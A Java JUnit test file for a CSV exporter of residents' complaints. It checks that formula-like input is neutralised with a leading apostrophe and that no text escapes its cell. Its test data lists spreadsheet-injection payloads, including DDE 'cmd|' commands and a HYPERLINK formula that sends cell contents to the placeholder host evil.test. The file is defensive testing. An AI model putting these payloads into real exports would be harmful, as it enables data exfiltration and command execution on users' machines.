package ru.otklik.bot.desk.pages;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What residents write is text in a spreadsheet, whatever it looks like there. */
class CellsTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=HYPERLINK(\"http://evil.test?\"&A2;\"Ответ\")",
                "=cmd|' /C calc'!A0",
                "+7 913 555-41-87",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1;2)",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "  =1+1",
                "\u00A0=1+1",
                "\u200B=1+1",
                "＝1+1",
                "＋1",
                "－1",
                "＠SUM(1)",
                "|calc",
                "=1\nвторая строка"
            })
    void calculatesNothing(String words) throws IOException {
        assertThat(read(words)).isEqualTo("'" + words);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "Яма",
                "ул. Ленина, 5",
                "2 яма = 1 яма",
                "кавычки \"ёлочки\" и «лапки»",
                "первая строка\nвторая; с точкой",
                "5-й дом"
            })
    void leavesOtherWordsAlone(String words) throws IOException {
        assertThat(read(words)).isEqualTo(words);
    }

    @Test
    void noWordsBreakOutOfTheirCell() throws IOException {
        String words = "яма\";\"=1+1\r\n\"26-000001\";\"Закрыто\"";
        assertThat(records("26-000002", words, "В работе")).singleElement().satisfies(line -> {
            assertThat(line.size()).isEqualTo(3);
            assertThat(line.get(1)).isEqualTo(words);
        });
    }

    @Test
    void beginsAsSpreadsheetsRecogniseIt() {
        Cells cells = new Cells();
        cells.line(List.of("Номер", "Адрес"));

        assertThat(new String(cells.bytes(), StandardCharsets.UTF_8)).isEqualTo("\uFEFF\"Номер\";\"Адрес\"\r\n");
    }

    private static String read(String words) throws IOException {
        return records("26-000001", words, "В работе").getFirst().get(1);
    }

    private static List<CSVRecord> records(String... cells) throws IOException {
        Cells table = new Cells();
        table.line(List.of(cells));
        String text = new String(table.bytes(), StandardCharsets.UTF_8).substring(1);
        try (CSVParser parser = CSVParser.parse(
                new StringReader(text),
                CSVFormat.EXCEL.builder().setDelimiter(';').get())) {
            return parser.getRecords();
        }
    }
}
